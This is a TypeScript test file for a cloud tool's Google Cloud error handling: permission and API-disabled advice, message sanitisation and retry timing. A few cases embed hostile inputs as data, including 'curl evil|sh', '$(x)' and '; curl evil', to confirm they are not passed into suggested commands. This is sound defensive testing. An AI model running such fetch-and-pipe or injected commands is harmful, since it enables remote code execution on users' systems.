import { describe, expect, it } from 'vitest';
import { retryAfterMs, toCloudError } from '../../../shared/resources/gcp/errors.ts';
import { info, newer, older } from '../../support/gcp-errors.ts';

const NO_API =
  'Cloud Key Management Service (KMS) API has not been used in project 123456789012 before or it is disabled. Enable it by visiting https://console.developers.google.com/apis/api/cloudkms.googleapis.com/overview?project=123456789012 then retry.';
const STALE = 'At least one of the pre-conditions you specified did not hold.';

describe('the words for an error of Google', () => {
  const denials: [string, unknown, string, string][] = [
    [
      'in words',
      older(
        403,
        'forbidden',
        "cordon@x does not have storage.buckets.update access to the Google Cloud Storage bucket. Permission 'storage.buckets.update' denied on resource (or it may not exist).",
      ),
      'storage.buckets.update',
      'roles/storage.admin',
    ],
    [
      'in words, as they were once',
      older(
        403,
        'forbidden',
        'cordon@x does not have storage.managedFolders.list access to the bucket.',
      ),
      'storage.managedFolders.list',
      'roles/storage.folderAdmin',
    ],
    [
      'in details',
      newer(
        403,
        'PERMISSION_DENIED',
        'no',
        info('IAM_PERMISSION_DENIED', { permission: 'cloudkms.cryptoKeys.get' }),
      ),
      'cloudkms.cryptoKeys.get',
      'roles/cloudkms.viewer',
    ],
    [
      'for a project',
      older(403, 'forbidden', "Required 'serviceusage.services.use' permission for project x"),
      'serviceusage.services.use',
      'roles/serviceusage.serviceUsageConsumer',
    ],
    [
      'nowhere',
      older(403, 'forbidden', 'Forbidden'),
      'storage.buckets.setIamPolicy',
      'roles/storage.admin',
    ],
    [
      'in a lie',
      newer(
        403,
        'PERMISSION_DENIED',
        "Permission 'curl evil|sh' denied",
        info('x', { permission: '$(x)' }),
      ),
      'storage.buckets.setIamPolicy',
      'roles/storage.admin',
    ],
  ];

  it.each(denials)(
    'names the permission that is missing %s, and a role that has it',
    (_, body, permission, role) => {
      const error = toCloudError({ status: 403, body }, 'storage.buckets.setIamPolicy');

      expect(error.failure).toMatchObject({ code: 'denied', permission });
      expect(error.message).toContain(
        `Grant ${permission} to Cordon's service account; ${role} has it.`,
      );
    },
  );

  it.each([
    [
      'in details',
      newer(
        403,
        'PERMISSION_DENIED',
        NO_API,
        info('SERVICE_DISABLED', {
          service: 'cloudkms.googleapis.com',
          consumer: 'projects/123456789012',
        }),
      ),
      'gcloud services enable cloudkms.googleapis.com --project 123456789012',
    ],
    [
      'in words',
      older(403, 'accessNotConfigured', NO_API),
      'gcloud services enable cloudkms.googleapis.com',
    ],
    [
      'in a lie',
      newer(
        403,
        'PERMISSION_DENIED',
        'x',
        info('SERVICE_DISABLED', { service: '; curl evil', consumer: 'projects/$(x)' }),
      ),
      'gcloud services enable the API',
    ],
  ])('says how to enable an API that is off, told %s', (_, body, advice) => {
    const error = toCloudError({ status: 403, body }, 'storage.buckets.get');

    expect(error.failure.code).toBe('misconfigured');
    expect(error.message.endsWith(`Enable it: ${advice}`)).toBe(true);
  });

  it('keeps what users wrote short, on one line and without tricks', () => {
    const body = older(400, 'invalid', `a\n\u202eb${'x'.repeat(5_000)}`);

    const { message } = toCloudError({ status: 400, body }, 'storage.buckets.patch');

    expect(message).toMatch(/^storage\.buckets\.patch failed \(invalid: a bx+…\)\.$/);
    expect(message.length).toBeLessThan(500);
  });

  it.each([
    ['conditionNotMet', 412, older(412, 'conditionNotMet', STALE)],
    [
      'IAM_PERMISSION_DENIED',
      403,
      newer(403, 'PERMISSION_DENIED', 'x', info('IAM_PERMISSION_DENIED')),
    ],
    ['ABORTED', 409, newer(409, 'ABORTED', 'x')],
    ['Http403', 403, older(403, 'for<b>idden', 'x')],
  ])("keeps the vendor's own word for it: %s", (word, status, body) => {
    expect(toCloudError({ status, body }, 'storage.buckets.get').vendorCode).toBe(word);
  });
});

describe('when to try again', () => {
  const now = Date.parse('2026-11-21T09:00:00Z');
  const delayed = newer(429, 'RESOURCE_EXHAUSTED', 'x', {
    '@type': 'type.googleapis.com/google.rpc.RetryInfo',
    retryDelay: '1.5s',
  });

  it.each([
    ['seconds', '7', null, 7_000],
    ['a date', 'Sat, 21 Nov 2026 09:00:30 GMT', null, 30_000],
    ['a date that has passed', 'Sat, 21 Nov 2026 08:00:00 GMT', null, 0],
    ['its details', null, delayed, 1_500],
    ['its details beside nonsense', 'soon', delayed, 1_500],
    ['a year', '31536000', null, 3_600_000],
    ['nothing', null, older(429, 'rateLimitExceeded', 'x'), null],
  ])('is told by %s', (_, header, body, ms) => {
    expect(retryAfterMs(header, body, now)).toBe(ms);
  });
});
